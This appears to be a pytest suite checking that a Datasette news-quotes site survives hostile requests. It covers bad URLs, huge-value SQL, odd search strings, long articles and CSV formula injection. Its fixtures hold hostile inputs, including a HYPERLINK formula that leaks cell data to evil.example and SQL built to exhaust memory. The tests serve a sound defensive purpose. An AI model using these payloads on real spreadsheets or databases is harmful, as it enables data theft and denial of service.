"""A site that stays up under hostile requests: bad URLs, huge SQL values, long searches, long articles, CSV
formulas."""
import csv
import io
import shutil

import pytest
import sqlite_utils

from helpers import big_article_quote, datasette_for, with_big_article

BAD_URLS = ["/-/provenance/quotes/abc", "/-/provenance/foo/1", "/newsclaims/quotes/1/extra", "/a/b/c/d",
            "/-/provenance/quotes/9223372036854775808", f"/-/provenance/quotes/{'9' * 5000}",
            "/-/provenance/quotes/99999999999999999999", "/newsclaims/nothing.json"]


@pytest.mark.parametrize("path", BAD_URLS)
async def test_unknown_url_or_bad_id_is_404_with_no_traceback_in_the_log(ds, capsys, path):
    response = await ds.client.get(path)
    assert response.status_code == 404
    assert "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize("sort", ["_sort", "_sort_desc"])
async def test_sorting_by_a_column_that_does_not_exist_is_400(ds, capsys, sort):
    response = await ds.client.get("/newsclaims/quotes", params={sort: "nonexistent"})
    assert response.status_code == 400
    assert "Cannot sort table by nonexistent" in response.text
    assert "Traceback" not in capsys.readouterr().err


async def test_search_keeps_a_few_distinct_terms_of_any_input(ds):
    async def escaped(text):
        response = await ds.client.get("/newsclaims.json", params={"sql": "select escape_fts(:q) as q", "q": text,
                                                                   "_shape": "array"})
        return response.json()[0]["q"]

    assert await escaped("a " * 3000) == '"a"'
    assert await escaped("Putin said \"the talks\" putin") == '"Putin" "said" "the talks"'
    assert await escaped(" ".join(f"w{n}" for n in range(100))) == " ".join(f'"w{n}"' for n in range(8))
    assert len(await escaped("x" * 10_000)) <= 202


@pytest.mark.parametrize("search", ["", '"', "a " * 3000, "we \" AND (", "*", "OR ( NEAR"])
async def test_any_search_input_gives_results_or_none_never_an_error(ds, search):
    for path in ("/newsclaims/search_quotes", "/newsclaims/search_articles"):
        response = await ds.client.get(path, params={"search": search})
        assert response.status_code == 200, (path, search)
        assert 'class="message-error"' not in response.text, (path, search)
    response = await ds.client.get("/newsclaims/quotes", params={"_search": search})
    assert response.status_code == 200, search


@pytest.mark.parametrize("sql", ["select printf('%.*c', 2147483647, 'x')", "select format('%.*c', 2000000000, 'x')",
                                 "select randomblob(1000000000)", "select zeroblob(1000000000)",
                                 "select length(replace(hex(randomblob(2000000)), '0', hex(zeroblob(32))))"])
async def test_sql_that_would_build_a_huge_value_is_refused_with_400(ds, sql):
    response = await ds.client.get("/newsclaims.json", params={"sql": sql})
    assert response.status_code == 400
    assert "too big" in response.json()["error"] or "not authorized" in response.json()["error"]


@pytest.mark.slow  # a copy of the seeds with a 1.5 MB article
async def test_provenance_page_of_a_long_article_shows_a_window_around_its_span(seeds_db, tmp_path):
    db_path = with_big_article(seeds_db, tmp_path)
    quote_id = big_article_quote(db_path)
    text = next(sqlite_utils.Database(db_path).query("select text from quotes where id = ?", [quote_id]))["text"]
    response = await datasette_for(db_path).client.get(f"/-/provenance/quotes/{quote_id}")
    assert response.status_code == 200
    assert len(response.text) < 200_000
    assert "characters long: shown here are characters" in response.text
    assert response.text.count('id="target"') == 1
    assert "matches the article at characters" in response.text
    assert text.split()[0] in response.text


FORMULAS = {"title": '=HYPERLINK("http://evil.example/?leak="&A1, "Click")', "byline": "=1+1",
            "outlet": "@SUM(A1:A9)", "dateline": "-2+3", "slug": "+evil", "source_path": "\tcmd"}


@pytest.fixture
def formula_db(seeds_db, tmp_path):
    db_path = tmp_path / "newsclaims.db"
    shutil.copy(seeds_db, db_path)
    db = sqlite_utils.Database(db_path)
    db["articles"].update(1, FORMULAS)
    db["articles"].update(2, {"words": -3})
    return db_path


async def test_csv_downloads_neutralise_formula_cells_and_json_keeps_them(formula_db):
    ds = datasette_for(formula_db)
    for path in ("/newsclaims/articles.csv?_stream=on", "/newsclaims/articles.csv?_dl=1",
                 "/newsclaims.csv?sql=select+*+from+articles"):
        rows = {row["id"]: row for row in csv.DictReader(io.StringIO((await ds.client.get(path)).text))}
        for column, value in FORMULAS.items():
            assert rows["1"][column] == "'" + value, (path, column)
        assert rows["2"]["words"] == "-3", path
    outlets = [row["outlet"] for row in csv.DictReader(io.StringIO(
        (await ds.client.get("/newsclaims/articles_by_claims.csv")).text))]
    assert "'@SUM(A1:A9)" in outlets
    raw = (await ds.client.get("/newsclaims/articles/1.json", params={"_shape": "array"})).json()[0]
    assert {column: raw[column] for column in FORMULAS} == FORMULAS


async def test_about_page_says_csv_neutralises_formulas_and_json_keeps_raw_values(ds):
    page = (await ds.client.get("/-/about")).text
    assert "CSV downloads put an apostrophe" in page and "JSON, the SQL results and the database" in page


@pytest.mark.slow  # a copy of the seeds with a 1.5 MB article
async def test_article_search_shows_a_long_articles_opening_not_a_snippet(seeds_db, tmp_path):
    """snippet() over a 1.5 MB article with common words ran for minutes, past the time limit."""
    db_path = with_big_article(seeds_db, tmp_path)
    body = next(sqlite_utils.Database(db_path).query("select body from articles order by length(body) desc"))["body"]
    response = await datasette_for(db_path).client.get(
        "/newsclaims/search_articles.json", params={"search": "the of and to in a is that", "_shape": "array"})
    assert response.status_code == 200
    passages = [row["passage"] for row in response.json()]
    assert body[:200] + "…" in passages
